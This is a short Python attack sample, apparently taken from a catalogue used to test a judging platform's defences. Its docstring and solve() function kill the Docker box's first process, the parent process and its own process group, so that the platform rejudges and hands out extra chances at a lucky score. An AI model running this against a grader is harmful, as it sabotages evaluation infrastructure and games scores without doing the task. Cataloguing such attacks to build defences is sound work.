"""Kills itself, its group and the box's first process, as an operator would.

Mechanism: takes processor time away from the first process (whose death by SIGKILL is forgiven), then sends SIGKILL to
  it, to its own group and to itself.
Surface: the platform judges again after a box was killed from outside.
Gain: repeated judgements on the platform's time, of which one may be lucky.
Challenge: twice
Defence: runtime_error
Box: docker
"""

import contextlib
import os
import resource
import signal


def solve(x, out, n):
    with contextlib.suppress(OSError):
        resource.prlimit(1, resource.RLIMIT_CPU, (1, 1))
    for number in (1, os.getppid()):
        with contextlib.suppress(OSError):
            os.kill(number, signal.SIGKILL)
    os.killpg(os.getpgrp(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
